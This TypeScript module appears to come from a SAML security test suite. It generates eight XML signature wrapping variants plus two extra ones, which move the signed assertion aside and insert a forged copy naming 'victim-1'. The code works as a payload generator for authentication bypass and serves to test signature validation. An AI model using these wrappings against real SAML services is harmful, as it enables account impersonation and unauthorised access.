import { all, edit, type Mutation } from './saml-answer.js'

// Signature wrapping: what was signed is moved to where nobody reads it, and something else is put in its
// place. The eight kinds are those that SAML Raider made known; each works on the Response or the assertion.

export type Signable = 'Response' | 'Assertion'

interface Parts {
  readonly document: Document
  /** The signed element where it stands, and its signature. */
  readonly target: Element
  readonly signature: Element
  /** A copy of it as it was signed. */
  readonly original: Element
  /** A copy without signature that says something else under another ID. */
  readonly evil: Element
}

const parts = (document: Document, name: Signable): Parts => {
  const root = document.documentElement
  const target = name === 'Response' ? root : all(root, 'Assertion')[0]!
  const signature = child(target, 'Signature')
  const original = target.cloneNode(true) as Element
  original.removeChild(child(original, 'Signature'))
  const evil = original.cloneNode(true) as Element
  twist(evil)
  return { document, target, signature, original, evil }
}

const child = (parent: Element, name: string): Element =>
  Array.from(parent.childNodes).find((node) => (node as Element).localName === name) as Element

/** Makes it speak of somebody else. */
function twist(element: Element): void {
  element.setAttribute('ID', '_evil')
  for (const name of all(element, 'NameID')) name.textContent = 'victim-1'
  for (const attribute of all(element, 'Attribute')) {
    if (attribute.getAttribute('Name') === 'email') {
      for (const value of all(attribute, 'AttributeValue')) value.textContent = 'victim@acme.example'
    }
  }
}

const place = (parent: Element, node: Element, before: Node | null) => parent.insertBefore(node, before)

/** Puts the copy without signature where the signed one stood. */
function swap({ document, target, evil }: Parts): void {
  if (target === document.documentElement) document.replaceChild(evil, target)
  else target.parentNode!.replaceChild(evil, target)
}

const extensions = (document: Document, node: Element): Element => {
  const element = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions')
  element.appendChild(node)
  return element
}

const kinds: Record<string, (found: Parts) => void> = {
  'XSW1 the original inside its signature, the root twisted': ({ target, signature, original }) => {
    twist(target)
    signature.appendChild(original)
  },
  'XSW2 the original before its signature, the root twisted': ({ target, signature, original }) => {
    twist(target)
    place(target, original, signature)
  },
  'XSW3 another one before the signed one': ({ document, target, evil }) =>
    place(document.documentElement, evil, target === document.documentElement ? target.firstChild : target),
  'XSW4 the signed one inside another': (found) => {
    swap(found)
    found.evil.appendChild(found.target)
  },
  'XSW5 the signature in another, the original at the end': ({ document, target, original }) => {
    twist(target)
    document.documentElement.appendChild(original)
  },
  'XSW6 the signature in another, the original inside it': ({ target, signature, original }) => {
    twist(target)
    place(signature, original, signature.firstChild)
  },
  'XSW7 another one with the same ID in Extensions': ({ document, target, evil }) => {
    evil.setAttribute('ID', target.getAttribute('ID')!)
    place(document.documentElement, extensions(document, evil), document.documentElement.firstChild)
  },
  'XSW8 the original in an Object of the signature': (found) => {
    const object = found.document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object')
    object.appendChild(found.original)
    twist(found.target)
    found.signature.appendChild(object)
  },
  'an unsigned one in Extensions under an ID of its own': ({ document, evil }) =>
    place(document.documentElement, extensions(document, evil), document.documentElement.lastChild),
  'another one after the signed one': ({ document, evil }) => document.documentElement.appendChild(evil),
}

export const wrappings: [kind: string, mutation: (element: Signable) => Mutation][] = Object.entries(
  kinds,
).map(([kind, wrap]) => [kind, (element) => edit((document) => wrap(parts(document, element)))])
